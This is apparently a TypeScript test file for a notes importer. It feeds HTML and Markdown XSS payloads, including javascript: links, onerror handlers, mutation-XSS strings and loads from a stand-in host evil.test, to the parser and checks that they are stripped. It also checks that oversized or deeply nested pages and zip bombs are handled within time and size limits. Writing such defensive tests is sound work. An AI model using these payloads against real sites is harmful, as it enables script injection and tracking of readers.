/** [NOTESIN-8] Pages that want to run, load or tell something, and pages that want to take the time of whoever reads them. */
import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { type Block, type Inline, isPictureSource, isSafeHref } from '#shared/document/text/index.ts';
import { must } from '#shared/kernel/result.ts';
import { LossBook } from '#shared/transfer/input/loss-book.ts';
import { readNotes } from './index.ts';
import { pagesInZip } from './notion/zip-pages.ts';

const blocksOf = (html: string): readonly Block[] =>
  must(readNotes(strToU8(`<!doctype html><body>${html}`), 'a')).pages[0]?.blocks ?? [];

/** All that a block has besides words: what could lead, load or be taken for mark-up of another kind. */
function holdings(blocks: readonly Block[]): { hrefs: string[]; sources: string[]; words: string } {
  const found = { hrefs: [] as string[], sources: [] as string[], words: '' };
  const line = (content: readonly Inline[]): void => {
    for (const inline of content) {
      if (inline.type !== 'text') continue;
      found.words += inline.text;
      for (const [mark, value] of Object.entries(inline.marks)) {
        expect(['link', 'underline', 'bold', 'italic', 'strike', 'code']).toContain(mark);
        expect(Object.keys(value)).toEqual(mark === 'link' ? ['href'] : []);
        if (value.href !== undefined) found.hrefs.push(value.href);
      }
    }
  };
  const walk = (block: Block): void => {
    switch (block.type) {
      case 'paragraph':
        expect(Object.keys(block).sort()).toEqual(['content', 'type']);
        line(block.content);
        return;
      case 'heading':
        expect(Object.keys(block).sort()).toEqual(['content', 'level', 'type']);
        line(block.content);
        return;
      case 'bulletList':
      case 'orderedList':
      case 'taskList':
        for (const item of block.items) {
          expect(Object.keys(item).sort()).toEqual(['checked', 'content']);
          expect(item.content[0]?.type).toBe('paragraph');
          for (const each of item.content) walk(each);
        }
        return;
      case 'blockquote':
        for (const each of block.content) walk(each);
        return;
      case 'codeBlock':
        found.words += block.text;
        return;
      case 'image':
        found.sources.push(block.src);
        return;
      case 'table':
        for (const row of block.rows) for (const cell of row) line(cell);
        return;
      case 'horizontalRule':
        return;
      default:
        throw new Error(`Not a block of notes: ${JSON.stringify(block)}`);
    }
  };
  for (const block of blocks) walk(block);
  return found;
}

function expectHarmless(blocks: readonly Block[]): ReturnType<typeof holdings> {
  const found = holdings(blocks);
  for (const href of found.hrefs) expect(href, 'a link').toSatisfy(isSafeHref);
  for (const source of found.sources) expect(source, 'a picture').toSatisfy(isPictureSource);
  return found;
}

/** What it is, the page, and what may remain of it in words. */
const ATTACKS: readonly (readonly [what: string, html: string, words?: string | undefined])[] = [
  ['script', 'a<script>alert(1)</script>b', 'ab'],
  ['script in capitals', 'a<SCRIPT SRC=//evil.test/x.js></SCRIPT>b', 'ab'],
  ['script that ends twice', '<script><!--<script></script>--></script>x'],
  ['script in svg', '<svg><script>alert(1)</script><text>t</text></svg>', 't'],
  ['style that loads', '<style>@import url(//evil.test/x.css)</style><p style="background:url(//evil.test/a)">x', 'x'],
  ['style that runs', '<p style="width:expression(alert(1));behavior:url(x)">x', 'x'],
  ['event attributes', '<p onclick=alert(1)>x</p><img src=x onerror=alert(1)><body onload=alert(1)>'],
  ['javascript:', '<a href="javascript:alert(1)">x</a>', 'x'],
  ['javascript: with blanks in it', '<a href=" java\nscr\tipt:alert(1)">x</a>', 'x'],
  ['javascript: as references', '<a href="&#106;avascript&colon;alert(1)">x</a>', 'x'],
  ['javascript: after a control', '<a href="\u0001javascript:alert(1)">x</a>', 'x'],
  [
    'vbscript: and blob: and file:',
    '<a href="vbscript:x">a</a><a href="blob:x">b</a><a href="file:///etc/passwd">c</a>',
    'abc',
  ],
  ['data:text/html', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><img src="data:text/html,<script>">', 'x'],
  ['data: of svg', '<img alt=s src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', 's'],
  ['a mention that only the program makes', '<a href="throughline:card/abc">x</a>', 'x'],
  ['an address that is no host', '<a href="//evil.test/x">x</a><a href="https://">y</a>', 'xy'],
  ['svg', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 'x'],
  ['svg use', '<svg><use href="//evil.test/a.svg#x"/><image href="//evil.test/a.png"/></svg>', ''],
  [
    'svg foreignObject',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe><p>x</p></foreignObject></svg>',
    'x',
  ],
  ['math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['math with a link', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', 'x'],
  ['mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['mutation by svg style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mutation by form and math', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['mutation by textarea', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['mutation by select', '<select><style></select><img src=x onerror=alert(1)></style></select>'],
  ['mutation by comments', '<!--><img src=x onerror=alert(1)>--><!-- --!><script>alert(1)</script>'],
  ['mutation by template', 'x<template><img src=x onerror=alert(1)></template>', 'x'],
  ['mutation by plaintext and xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=//evil.test">x', 'x'],
  ['base', '<base href="//evil.test/"><a href="page">x</a>', 'x'],
  [
    'object and embed',
    '<object data="//evil.test/x.swf"><param name=a>fallback</object><embed src="//evil.test/x">',
    'fallback',
  ],
  ['iframe with a page in it', '<iframe srcdoc="<script>alert(1)</script>">inner</iframe>x', 'x'],
  ['frameset', '<frameset><frame src="//evil.test"></frameset>'],
  [
    'form actions',
    '<form action="//evil.test"><input type=image src="//evil.test/a.png" formaction="javascript:alert(1)"><button formaction=x>go</button></form>',
    'go',
  ],
  ['srcset', '<picture><source srcset="//evil.test/a.png"><img srcset="//evil.test/b.png 2x" alt=p></picture>', 'p'],
  ['ping', '<a href="https://example.org/" ping="//evil.test/told">x</a>', 'x'],
  [
    'links that load before they are followed',
    '<link rel=prefetch href="//evil.test/a"><link rel=stylesheet href="//evil.test/a.css"><link rel=dns-prefetch href="//evil.test">x',
    'x',
  ],
  ['a pixel', '<img width=1 height=1 src="https://evil.test/p.gif?reader=1">x', 'x'],
  [
    'media',
    '<video src="//evil.test/v" poster="//evil.test/p.png" autoplay>v</video><audio src="//evil.test/a"></audio>',
    'v',
  ],
  [
    'a background',
    '<table background="//evil.test/a.png"><tr><td>x</td></tr></table><body background="//evil.test/b">',
    'x',
  ],
  ['an import in a link', '<link rel=import href="//evil.test"><portal src="//evil.test"></portal>x', 'x'],
  [
    'a name of the prototype',
    '<x-__proto__ constructor=1>x</x-__proto__><constructor>y</constructor><p class="__proto__ constructor">z',
    'xyz',
  ],
];

describe('[NOTESIN-8] a page that attacks', () => {
  it.each(ATTACKS.map(([what, html, words]) => ({ what, html, words })))(
    'by $what leaves words alone',
    ({ html, words }) => {
      const found = expectHarmless(blocksOf(html));
      expect(found.hrefs.filter((href) => href.includes('evil'))).toEqual([]);
      expect(found.sources.filter((source) => source.includes('evil'))).toEqual([]);
      if (words !== undefined) expect(found.words.replace(/\s/g, '')).toBe(words);
    },
  );

  it('has the same fate when attacks stand in lists, tables, quotes and headings', () => {
    for (const [, html] of ATTACKS)
      for (const around of [
        ['<ul><li>', '</ul>'],
        ['<table><tr><td>a<td>', '</table>'],
        ['<blockquote>', '</blockquote>'],
        ['<h2>', '</h2>'],
        ['<a href="https://example.org/">', '</a>'],
      ])
        expectHarmless(blocksOf(around.join(html)));
  });

  it('shows a picture only of its own bytes, and of the web one that is loaded by nobody', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(blocksOf(`<img src="${png}" alt=a><img src="https://example.org/a.png" srcset=x onload=y>`)).toEqual([
      { type: 'image', src: png, alt: 'a' },
      { type: 'image', src: 'https://example.org/a.png', alt: '' },
    ]);
  });

  it('is never HTML again: what looks like it is words', () => {
    const [block] = blocksOf('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
    expect(block).toEqual({
      type: 'paragraph',
      content: [{ type: 'text', text: '<script>alert(1)</script>', marks: {} }],
    });
  });

  it('is held to this whatever it is made of', () => {
    const pieces = ATTACKS.map(([, html]) => html).flatMap((html) => html.split(/(?=<)/));
    const piece = fc.oneof(
      fc.constantFrom(...pieces),
      fc.constantFrom(
        '<td>',
        '</table>',
        '<p>',
        '</b>',
        '<li>',
        '<svg>',
        '</svg>',
        '<math>',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '&#0;',
        '\u0000',
        '<a href="',
        '">',
      ),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (parts) => {
        expectHarmless(blocksOf(parts.join('')));
      }),
      { numRuns: 300 },
    );
  });

  it('in Markdown is words too', () => {
    for (const text of [
      '[x](javascript:alert(1))',
      '[x]( java\tscript:alert(1))',
      '<javascript:alert(1)>',
      '![x](data:text/html;base64,PHNjcmlwdD4=)',
      '[x][a]\n\n[a]: vbscript:x',
      '<img src=x onerror=alert(1)>',
      '<aside>\n<script>alert(1)</script>\n</aside>',
      '[[javascript:alert(1)|x]]',
      '---\ntitle: "<script>"\n---\n<b onclick=x>y</b>',
    ])
      expectHarmless(
        must(readNotes(strToU8(text.startsWith('---') ? text : `x\n\n${text}`), 'a.md')).pages[0]?.blocks ?? [],
      );
  });
});

/** Milliseconds that no page may take here, on a machine that others use too; the slowest took a fifth of it. */
const LONG = 20_000;

describe('[NOTESIN-9] a page that takes time', () => {
  const many = (count: number, text: string): string => text.repeat(count);
  const HUGE: readonly (readonly [string, string])[] = [
    ['elements within each other', many(200_000, '<div>')],
    ['lists within each other', many(100_000, '<ul><li>')],
    ['tables within each other', many(100_000, '<table><tr><td>')],
    ['marks that are open again in every paragraph', many(400, '<b a=1><i>') + many(200_000, '<p>x')],
    ['marks of their own each', Array.from({ length: 50_000 }, (_, index) => `<b a${index}>`).join('')],
    ['attributes of one element', `<p ${Array.from({ length: 500_000 }, (_, index) => `a${index}`).join(' ')}>x`],
    [
      'attributes of the body, over and over',
      Array.from({ length: 300_000 }, (_, index) => `<body a${index}>`).join(''),
    ],
    ['ten megabytes of entities', many(2_000_000, '&amp;')],
    ['entities without an end', many(600_000, '&notit')],
    ['elements moved out of a table', `<table>${many(100_000, '<b></b>x')}`],
    ['ends of what never began', many(1_500_000, '</p>')],
    ['ends of marks', many(100_000, '<a><p></a>')],
    ['comments', many(1_000_000, '<!-->')],
    ['blanks', `<p>${many(2_000_000, ' ')}x`],
    ['cells over a thousand columns', `<table>${many(12_000, '<tr><td colspan=1000>')}</table>`],
    ['lists without items', `<ul>${many(30_000, '<div>x</div>')}`],
    ['brackets', many(3_000_000, '<')],
    ['a doctype', `<!doctype ${many(2_000_000, 'x ')}`],
    ['classes', `<style>.c1{font-weight:700}</style><p class="${many(1_000_000, 'c1 ')}">x`],
    ['styles', many(6_000, `<p style="${many(200, ';')}">x`)],
  ];

  it.each(HUGE)('with %s is read or refused in bounded time', (_, html) => {
    const begun = Date.now();
    const read = readNotes(strToU8(`<!doctype html><body>${html}`), 'a');
    expect(Date.now() - begun).toBeLessThan(LONG);
    if (read.ok) expectHarmless(read.value.pages[0]?.blocks ?? []);
    else expect(['page-too-deep', 'page-too-long']).toContain(read.error.code);
  });

  it.each([
    ['brackets', many(200_000, '[[')],
    ['callouts', many(20_000, '> [!a]\n')],
    ['front matter without an end', `---\n${many(200_000, 'a: b\n')}`],
    ['asides', many(50_000, '<aside>\n')],
    ['boxes', many(30_000, '- [-] a\n')],
    ['pictures without an end', many(100_000, '<img ')],
    ['fences', many(100_000, '```\n')],
  ])('in Markdown of %s is read in bounded time', (_, text) => {
    const begun = Date.now();
    expect(readNotes(strToU8(text.startsWith('---') ? text : `x\n\n${text}\n`), 'a.md').ok).toBe(true);
    expect(Date.now() - begun).toBeLessThan(LONG);
  });

  it('[NOTESIN-12] in a zip is inflated no further than limits go', () => {
    const limits = { entries: 10, entryBytes: 3 * 2 ** 20, totalBytes: 4 * 2 ** 20, ratio: 50 };
    const why = (files: Parameters<typeof zipSync>[0]): string => {
      const read = pagesInZip(zipSync(files), new LossBook(), limits);
      return read.ok ? 'read' : read.error.message;
    };
    const zeros = (bytes: number): Uint8Array => new Uint8Array(bytes);
    expect(why({ 'a.md': zeros(2 * 2 ** 20) })).toContain('packed far tighter');
    expect(why({ 'a.md': [zeros(3.5 * 2 ** 20), { level: 0 }] })).toContain('larger than 3 MB');
    expect(
      why({ 'a.md': [zeros(2.5 * 2 ** 20), { level: 0 }], 'b.md': [zeros(2.5 * 2 ** 20), { level: 0 }] }),
    ).toContain('larger than 4 MB');
    expect(why(Object.fromEntries(Array.from({ length: 11 }, (_, index) => [`${index}.md`, zeros(1)])))).toContain(
      'more than 10 files',
    );
    // A part counts with the zip that it came in, and what is no page is not inflated at all.
    expect(why({ 'Export-Part-1.zip': zipSync({ 'a.md': zeros(2 * 2 ** 20) }) })).toContain('packed far tighter');
    expect(why({ 'a.md': strToU8('x'), 'b.jpg': zeros(2 * 2 ** 20) })).toBe('read');
    expect(why({ 'Export-Part-1.zip': zipSync({ 'x-Part-2.zip': zipSync({ 'a.md': zeros(2 * 2 ** 20) }) }) })).toBe(
      'read',
    );
  });
});
